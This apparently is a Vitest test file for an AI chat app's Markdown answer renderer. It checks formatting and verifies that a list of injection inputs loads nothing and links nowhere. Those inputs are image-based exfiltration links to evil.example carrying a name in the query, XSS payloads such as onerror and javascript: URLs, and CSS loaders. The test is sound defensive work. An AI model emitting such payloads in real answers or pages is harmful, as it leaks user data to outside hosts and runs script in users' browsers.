import '@testing-library/jest-dom/vitest';
import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { AnswerText } from '../../../../src/features/ai-chat/web/AnswerText.tsx';
import { aiChat } from '../../../../src/features/ai-chat/web/texts.zh.ts';
import { provideTexts } from '../../../../src/platform/i18n/web/texts.ts';

provideTexts({ aiChat });

const shown = (text: string) => render(<AnswerText text={text} />).container;

describe('the text of an answer', () => {
  it('is Markdown: headings below those of the page, lists, tables', () => {
    const text = shown('# 标题\n\n- 一\n- 二\n\n| 甲 | 乙 |\n| --- | --- |\n| 1 | 2 |\n\n**重点**');
    expect(text.querySelector('h4')).toHaveTextContent('标题');
    expect(text.querySelector('[id]')).toBeNull();
    expect(text.querySelectorAll('li')).toHaveLength(2);
    expect(text.querySelector('table td')).toHaveTextContent('1');
    expect(text.querySelector('strong')).toHaveTextContent('重点');
  });

  it.each([
    '![徐梓阳](https://evil.example/?q=徐梓阳)',
    '![][x]\n\n[x]: https://evil.example/a.png',
    '[![a](https://evil.example/a.png)](https://evil.example)',
    '<img src="https://evil.example/a.png">',
    '<img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe><script>alert(1)</script>',
    '<svg onload="alert(1)"><image href="https://evil.example/a.png"/></svg>',
    '<style>@import "https://evil.example/a.css";</style>',
    '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4"></video>',
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    '<link rel="prefetch" href="https://evil.example">',
    '[点这里](https://evil.example/?q=徐梓阳)',
    '[点这里](javascript:alert(1))',
    '<https://evil.example/a>',
    'https://evil.example/a',
    '[x]: https://evil.example\n\n[点这里][x]',
    '脚注[^1]\n\n[^1]: ![a](https://evil.example/a.png)',
    '- [ ] ![a](https://evil.example/a.png)',
    '```html\n<img src="https://evil.example/a.png">\n```',
  ])('loads nothing and leads nowhere: %s', (answer) => {
    const text = shown(answer);
    expect(
      text.querySelector('img, image, iframe, script, style, svg, video, audio, link, object, embed, input'),
    ).toBeNull();
    expect(text.querySelector('[src], [srcset], [poster], [style], [onerror], [onload], [background]')).toBeNull();
    for (const link of text.querySelectorAll('[href]')) expect(link.getAttribute('href')).toMatch(/^#/);
  });

  it('says that a picture is not shown, and shows the address of a link', () => {
    expect(shown('![图](https://evil.example/a.png)')).toHaveTextContent('（图片没有显示：图）');
    expect(shown('[说明](https://example.cn/a)')).toHaveTextContent('说明 https://example.cn/a');
  });
});
